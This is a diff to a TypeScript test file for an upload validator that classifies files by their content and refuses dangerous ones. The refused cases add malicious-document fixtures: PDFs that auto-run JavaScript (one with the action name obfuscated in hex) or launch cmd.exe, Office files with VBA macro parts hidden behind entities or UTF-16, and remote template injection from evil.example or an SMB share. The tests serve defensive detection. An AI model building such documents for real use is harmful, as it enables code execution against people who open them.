@@ -19,9 +19,42 @@ const jpeg = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), Buffer
 const webp = Buffer.concat([Buffer.from('RIFF\x20\0\0\0WEBPVP8 '), Buffer.alloc(40)]);
 const gb18030 = Buffer.from([0xc3, 0xfb, 0xb3, 0xc6, 0x2c, 0x31, 0x0a]);
 
+const aPdfWith = (action: string) => Buffer.from(`%PDF-1.7\n1 0 obj <</Type /Catalog ${action}>> endobj\n%%EOF\n`);
+const template = 'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
+const related = (target: string, kind: string, mode = 'Internal') =>
+  aDocument('docx', [
+    {
+      name: 'word/_rels/settings.xml.rels',
+      content: `<Relationships><Relationship Id="r1" Target='${target}' TargetMode="${mode}" Type="http://${kind}"/></Relationships>`,
+    },
+  ]);
+const typesOf = (type: string) => `<Types><Override PartName="/word/a.bin" ContentType="${type}"/></Types>`;
+const withTypes = (content: Buffer | string, kind: 'docx' | 'xlsx' = 'docx') =>
+  anArchive([
+    { name: '[Content_Types].xml', content },
+    { name: kind === 'docx' ? 'word/document.xml' : 'xl/workbook.xml', content: '<document/>' },
+  ]);
+const typed = (type: string, kind: 'docx' | 'xlsx' = 'docx') => withTypes(typesOf(type), kind);
+const wide = (text: string) => withTypes(Buffer.from(`\uFEFF${text}`, 'utf16le'));
+
 describe('a file is what its content is', () => {
   it.each([
     ['pdf', '方案.PDF', aPdf],
+    [
+      'pdf',
+      'about scripts.pdf',
+      Buffer.concat([aPdf, Buffer.from('(How JavaScript and /JavaScriptLike are launched)')]),
+    ],
+    [
+      'docx',
+      'linked.docx',
+      related(
+        'https://one.example',
+        'schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink',
+        'External',
+      ),
+    ],
+    ['docx', 'own template.docx', related('file:///C:/Users/lin/Templates/firm.dotx', template, 'External')],
     ['png', 'a.png', aPng],
     ['jpeg', 'a.jpg', jpeg],
     ['jpeg', 'a.jpeg', jpeg],
@@ -68,6 +101,52 @@ describe('refused', () => {
       Buffer.concat([jpeg, Buffer.from('<html><script>alert(1)</script>')]),
     ],
     ['content-mixed', 'a picture that is a document as well', 'a.png', Buffer.concat([aPng, aPdf])],
+    [
+      'content-active',
+      'a document with a script',
+      'a.pdf',
+      aPdfWith('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
+    ],
+    [
+      'content-active',
+      'a document with a script spelt in hex',
+      'a.pdf',
+      aPdfWith('/AA << /S /J#61va#53cript /JS 3 0 R >>'),
+    ],
+    [
+      'content-active',
+      'a document that starts a program',
+      'a.pdf',
+      aPdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>'),
+    ],
+    [
+      'archive-macros',
+      'macros in a part of another name',
+      'a.docx',
+      related('vba', 'microsoft.com/office/2006/relationships/vbaProject'),
+    ],
+    [
+      'archive-macros',
+      'macros told by the kind of a part',
+      'a.docx',
+      typed('application/vnd.ms-word.document.macroEnabled.main+xml'),
+    ],
+    ['archive-macros', 'a sheet of macros', 'a.xlsx', typed('application/vnd.ms-excel.macrosheet+xml', 'xlsx')],
+    [
+      'archive-macros',
+      'macros in letters written as numbers',
+      'a.docx',
+      typed('application/vnd.ms-office.&#118;ba&#x50;roject'),
+    ],
+    ['archive-macros', 'macros in wide letters', 'a.docx', wide(typesOf('application/vnd.ms-office.vbaProject'))],
+    [
+      'archive-remote',
+      'a template from elsewhere',
+      'a.docx',
+      related('https://evil.example/t.dotm', template, 'External'),
+    ],
+    ['archive-remote', 'a template from a share', 'a.docx', related('\\\\10.0.0.1\\t.dotm', template, 'External')],
+    ['archive-broken', 'parts spelt by a declaration', 'a.docx', wide('<!DOCTYPE a [<!ENTITY b "vba">]><Types/>')],
     ['content-mixed', 'two documents in one', 'a.docx', aDocument('docx', [{ name: 'xl/workbook.xml' }])],
     [
       'type-unknown',
